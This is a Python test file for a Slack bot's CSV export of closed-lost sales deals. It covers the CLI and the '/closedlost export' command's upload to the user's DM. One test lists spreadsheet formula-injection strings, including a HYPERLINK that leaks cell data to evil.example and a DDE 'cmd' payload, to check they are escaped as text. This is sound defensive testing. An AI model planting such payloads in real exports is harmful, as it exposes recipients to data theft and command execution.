"""CSV export: `closedlost export` in a fresh process (every column, formula cells, date bounds,
pages, stdout or a file, bad arguments), and `/closedlost export` over real HTTP, which sends the
same CSV to the person's DM through the fake Slack's upload flow."""

import asyncio
import csv
import io
import os
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path

import pytest
from sqlalchemy import insert, select, update
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from storage.models import Deal, Loss, LossState, Revisit, RevisitState
from tests.bot_client import BotClient
from tests.fake_slack import Failure, FakeSlack
from tests.seed import DANA, NOW, SAM, Seed, utc

REPOSITORY = Path(__file__).resolve().parent.parent
HEADER = [
    "deal_id",
    "source",
    "name",
    "account",
    "amount",
    "currency",
    "owner_email",
    "lost_at",
    "state",
    "reason_code",
    "reason_label",
    "reason_group",
    "competitor_or_feature",
    "explanation",
    "logged_by",
    "logged_at",
    "revisit_on",
    "revisit_outcome",
    "imported",
]


def closedlost(cwd: Path, *arguments: str, database_url: str, **settings: str) -> subprocess.CompletedProcess[bytes]:
    """The CLI of this checkout in a fresh process, with only the environment given: no Slack
    setting, which an export does not need. Output as bytes, to check the encoding."""
    environment = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "PYTHONPATH": str(REPOSITORY),
        "HOME": str(cwd),
        "DATABASE_URL": database_url,
        **settings,
    }
    return subprocess.run(
        [sys.executable, "-m", "bot", *arguments],
        cwd=cwd,
        env=environment,
        capture_output=True,
        timeout=120,
        check=False,
    )


async def export(cwd: Path, *arguments: str, database_url: str, **settings: str) -> subprocess.CompletedProcess[bytes]:
    return await asyncio.to_thread(closedlost, cwd, "export", *arguments, database_url=database_url, **settings)


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


async def test_every_column_of_a_logged_loss_with_a_competitor_and_a_revisit_and_of_an_awaiting_loss(
    tmp_path: Path, database_url: str, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    seed = Seed()
    logged = seed.loss(owner=DANA, lost_at=utc(2026, 11, 20, 15, 4, 5), amount="48000.5", name="Acme — 200 seats")
    acme = seed.deals[-1]
    acme.source, acme.external_id, acme.account, acme.owner_email = (
        "salesforce",
        "0061x00000AbCdE",
        "Acme Corp",
        "dana@example.com",
    )
    seed.reason(logged, "price", logged_at=utc(2026, 11, 20, 16), explanation="Their budget was cut in half.")
    seed.reason(
        logged,
        "competitor",
        logged_at=utc(2026, 11, 21, 9, 30),
        revision=2,
        detail="Initech",
        explanation='Initech bundled onboarding, "for free"; we could not match it.\nThey sign for two years.',
        revisit_on=date(2027, 9, 17),
    )
    seed.loss(owner=SAM, lost_at=utc(2026, 11, 22, 8), amount=None, currency=None, state=LossState.AWAITING)
    globex = seed.deals[-1]
    globex.external_id, globex.name, globex.account = "hs-991", "Globex renewal", None
    await seed.save(session_factory)
    async with session_factory() as session, session.begin():
        await session.execute(update(Revisit).values(state=RevisitState.REOPENED))

    result = await export(tmp_path, database_url=database_url)

    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith(b"deal_id,source,name,")
    assert result.stdout.endswith(b"\r\n")
    assert "Acme — 200 seats".encode() in result.stdout
    assert parse(result.stdout) == [
        HEADER,
        [
            "0061x00000AbCdE",
            "salesforce",
            "Acme — 200 seats",
            "Acme Corp",
            "48000.50",
            "USD",
            "dana@example.com",
            "2026-11-20T15:04:05Z",
            "logged",
            "competitor",
            "Lost to a competitor",
            "loss",
            "Initech",
            'Initech bundled onboarding, "for free"; we could not match it.\nThey sign for two years.',
            DANA,
            "2026-11-21T09:30:00Z",
            "2027-09-17",
            "reopened",
            "no",
        ],
        [
            "hs-991",
            "generic",
            "Globex renewal",
            "",
            "",
            "",
            "",
            "2026-11-22T08:00:00Z",
            "awaiting",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "",
            "no",
        ],
    ]
    assert result.stderr == b"closedlost: wrote 2 losses to stdout\n"


HOSTILE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Open the deal")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


async def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
    tmp_path: Path, database_url: str, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    seed = Seed()
    for number, text in enumerate(HOSTILE):
        loss = seed.loss(owner=DANA, lost_at=utc(2026, 11, 1 + number), amount="1000", name=text)
        seed.deals[-1].account = text
        seed.reason(loss, "competitor", logged_at=utc(2026, 11, 1 + number, 12), detail=text, explanation=text)
    seed.loss(owner=DANA, lost_at=utc(2026, 11, 20), amount="1000", name="Profit = price - cost @ Acme")
    await seed.save(session_factory)

    result = await export(tmp_path, database_url=database_url)

    assert result.returncode == 0, result.stderr
    rows = parse(result.stdout)[1:]
    columns = [HEADER.index(name) for name in ("name", "account", "competitor_or_feature", "explanation")]
    assert [[row[column] for column in columns] for row in rows[:-1]] == [["'" + text] * 4 for text in HOSTILE]
    assert rows[-1][HEADER.index("name")] == "Profit = price - cost @ Acme"


async def test_since_and_until_are_whole_days_in_the_team_time_zone(
    tmp_path: Path, database_url: str, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    seed = Seed()
    # In Paris (UTC+1 in March): the last second of Mar 1, the first of Mar 2, the last of Mar 3, the first of Mar 4.
    for name, lost_at in [
        ("mar-1-late", utc(2026, 3, 1, 22, 59, 59)),
        ("mar-2-early", utc(2026, 3, 1, 23)),
        ("mar-3-late", utc(2026, 3, 3, 22, 59, 59)),
        ("mar-4-early", utc(2026, 3, 3, 23)),
    ]:
        seed.loss(owner=DANA, lost_at=lost_at, amount="1000", name=name)
    await seed.save(session_factory)

    async def names(*arguments: str) -> tuple[list[str], bytes]:
        result = await export(tmp_path, *arguments, database_url=database_url, TIMEZONE="Europe/Paris")
        assert result.returncode == 0, result.stderr
        return [row[HEADER.index("name")] for row in parse(result.stdout)[1:]], result.stderr

    assert await names("--since", "2026-03-02", "--until", "2026-03-03") == (
        ["mar-2-early", "mar-3-late"],
        b"closedlost: wrote 2 losses lost from 2026-03-02 to 2026-03-03 to stdout\n",
    )
    assert await names("--since", "2026-03-02") == (
        ["mar-2-early", "mar-3-late", "mar-4-early"],
        b"closedlost: wrote 3 losses lost since 2026-03-02 to stdout\n",
    )
    assert await names("--until", "2026-03-03") == (
        ["mar-1-late", "mar-2-early", "mar-3-late"],
        b"closedlost: wrote 3 losses lost up to 2026-03-03 to stdout\n",
    )
    assert (await names("--since", "2026-03-05"))[0] == []


async def test_losses_lost_at_the_same_instant_across_pages_are_each_written_once_in_order(
    tmp_path: Path, database_url: str, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    """4,100 losses at 7 instants: the pages of 2,000 end in the middle of a run of equal `lost_at`."""
    instants = [utc(2026, 1, 1) + timedelta(hours=hour) for hour in range(7)]
    count = 4_100
    async with session_factory() as session, session.begin():
        deal_ids = (
            await session.scalars(
                insert(Deal).returning(Deal.id),
                [
                    {
                        "source": "generic",
                        "external_id": f"bulk-{number:05d}",
                        "name": f"Bulk {number}",
                        "stage": "closed_lost",
                        "stage_changed_at": instants[0],
                        "created_at": instants[0],
                        "updated_at": instants[0],
                    }
                    for number in range(count)
                ],
            )
        ).all()
        # Inserted out of time order, so that id order and lost_at order differ.
        await session.execute(
            insert(Loss),
            [
                {
                    "deal_id": deal_id,
                    "lost_at": instants[(number * 3) % len(instants)],
                    "state": LossState.EXCLUDED,
                    "created_at": instants[0],
                }
                for number, deal_id in enumerate(deal_ids)
            ],
        )
    async with session_factory() as session:
        expected = list(
            await session.scalars(
                select(Deal.external_id).join(Loss, Loss.deal_id == Deal.id).order_by(Loss.lost_at, Loss.id)
            )
        )

    result = await export(tmp_path, database_url=database_url)

    assert result.returncode == 0, result.stderr
    assert [row[0] for row in parse(result.stdout)[1:]] == expected
    assert len(set(expected)) == count
    assert result.stderr == b"closedlost: wrote 4,100 losses to stdout\n"


async def test_output_writes_the_same_csv_to_a_file_and_nothing_to_stdout(
    tmp_path: Path, database_url: str, session_factory: async_sessionmaker[AsyncSession]
) -> None:
    seed = Seed()
    seed.loss(owner=DANA, lost_at=utc(2026, 11, 2), amount="1000", name="Initech — pilot")
    seed.loss(owner=SAM, lost_at=utc(2026, 11, 3), amount="2000", state=LossState.AWAITING)
    await seed.save(session_factory)
    target = tmp_path / "losses.csv"
    target.write_text("an older export\n")

    to_stdout = await export(tmp_path, database_url=database_url)
    to_file = await export(tmp_path, "--output", str(target), database_url=database_url)

    assert to_file.returncode == 0, to_file.stderr
    assert to_file.stdout == b""
    assert to_file.stderr == f"closedlost: wrote 2 losses to {target}\n".encode()
    assert target.read_bytes() == to_stdout.stdout
    assert not (tmp_path / "losses.csv.partial").exists()


async def test_an_output_that_cannot_be_written_is_one_line(tmp_path: Path, database_url: str) -> None:
    result = await export(tmp_path, "--output", str(tmp_path / "no-such-folder" / "x.csv"), database_url=database_url)

    assert result.returncode == 1
    assert result.stdout == b""
    assert result.stderr.decode().splitlines() == [
        f"closedlost: cannot write {tmp_path / 'no-such-folder' / 'x.csv'}: No such file or directory"
    ]


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (["--since", "2026-13-01"], "closedlost: --since '2026-13-01' is not a date: expected YYYY-MM-DD"),
        (["--until", "yesterday"], "closedlost: --until 'yesterday' is not a date: expected YYYY-MM-DD"),
        (
            ["--since", "2026-03-02", "--until", "2026-03-01"],
            "closedlost: --since 2026-03-02 is after --until 2026-03-01",
        ),
    ],
)
async def test_a_bad_date_is_one_line_and_writes_nothing(
    tmp_path: Path, database_url: str, arguments: list[str], message: str
) -> None:
    result = await export(tmp_path, *arguments, "--output", str(tmp_path / "x.csv"), database_url=database_url)

    assert result.returncode == 2
    assert result.stdout == b""
    assert result.stderr.decode().splitlines() == [message]
    assert not (tmp_path / "x.csv").exists()


async def test_a_database_without_the_tables_is_one_line(tmp_path: Path) -> None:
    result = await export(tmp_path, database_url=f"sqlite:///{tmp_path / 'empty.db'}")

    assert result.returncode == 1
    assert result.stderr.decode().splitlines() == ["closedlost: DATABASE_URL cannot be read: no such table: loss"]


def test_export_help_names_its_options(tmp_path: Path) -> None:
    result = closedlost(tmp_path, "export", "--help", database_url="sqlite:///unused.db")

    assert result.returncode == 0
    assert result.stdout.startswith(b"usage: closedlost export [-h] [--since DATE] [--until DATE] [--output FILE]")
    assert not (tmp_path / "unused.db").exists()


# --- /closedlost export -----------------------------------------------------------------------------


async def test_the_command_sends_the_csv_to_the_persons_dm_and_says_so(
    tmp_path: Path, bot: BotClient, fake_slack: FakeSlack, team: dict[str, int], database_url: str
) -> None:
    answer = await bot.command("export 30d", user_id=SAM)

    text = "Your CSV of closed-lost deals, the last 30 days (6 losses), is in your DM with the bot."
    assert answer.body == {
        "text": text,
        "blocks": [{"type": "section", "text": {"type": "mrkdwn", "text": text}}],
        "response_type": "ephemeral",
    }
    assert fake_slack.calls_to("conversations.open") == [{"users": SAM}]
    [ticket] = fake_slack.calls_to("files.getUploadURLExternal")
    [(file_id, slack_file)] = fake_slack.files.items()
    uploaded = slack_file.content
    assert uploaded is not None
    assert ticket == {"filename": f"closedlost-30d-{NOW.date():%Y-%m-%d}.csv", "length": str(len(uploaded))}
    assert fake_slack.shared_files("D0SAM0001") == [slack_file]
    [completed] = fake_slack.calls_to("files.completeUploadExternal")
    assert completed["initial_comment"] == "Closed-lost deals, the last 30 days: 6 losses, one row each."
    assert completed["files"] == f'[{{"id": "{file_id}", "title": "Closed-lost deals, the last 30 days"}}]'
    # The same rows as the CLI's, for the losses of the last 30 days (the seed's others are 40 and 400 days old).
    everything = await export(tmp_path, database_url=database_url)
    cutoff = f"{NOW - timedelta(days=30):%Y-%m-%dT%H:%M:%SZ}"
    [header, *rows] = parse(everything.stdout)
    assert parse(uploaded) == [header, *[row for row in rows if row[HEADER.index("lost_at")] > cutoff]]
    assert len(parse(uploaded)) == 1 + 6


async def test_a_period_without_losses_sends_nothing(bot: BotClient, fake_slack: FakeSlack) -> None:
    answer = await bot.command("export", user_id=DANA)

    assert answer.body["text"] == "No closed-lost deals, the last 30 days: there is nothing to export."
    assert fake_slack.calls_to("conversations.open") == []
    assert fake_slack.files == {}


async def test_an_upload_slack_refuses_is_explained_and_nothing_is_shared(
    bot: BotClient, fake_slack: FakeSlack, team: dict[str, int], caplog: pytest.LogCaptureFixture
) -> None:
    fake_slack.fail("files.getUploadURLExternal", Failure(200, error="missing_scope"))

    answer = await bot.command("export all", user_id=DANA)

    assert answer.body["text"] == (
        "The export could not be sent: Slack answered missing_scope. The bot's log has the details for whoever runs it."
    )
    assert fake_slack.calls_to("files.completeUploadExternal") == []
    assert not any(file.completed for file in fake_slack.files.values())
    [warning] = [record for record in caplog.records if record.name == "bot.services.export"]
    assert warning.getMessage() == f"cannot send an export to {DANA}: Slack answered missing_scope"
    assert warning.__dict__["slack_user_id"] == DANA


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("export 45d", ":warning: `45d` is not a period: use one of `7d`, `30d`, `90d`, `quarter`, `year`, `all`."),
        ("export 7d 30d", ":warning: `export` takes one period at most (got `7d 30d`)."),
    ],
)
async def test_a_bad_export_period_gets_the_usage(
    bot: BotClient, fake_slack: FakeSlack, text: str, problem: str
) -> None:
    answer = await bot.command(text, user_id=DANA)

    assert answer.body["blocks"][0]["text"]["text"] == problem
    assert "*/closedlost export*" in answer.body["blocks"][2]["text"]["text"]
    assert fake_slack.files == {}
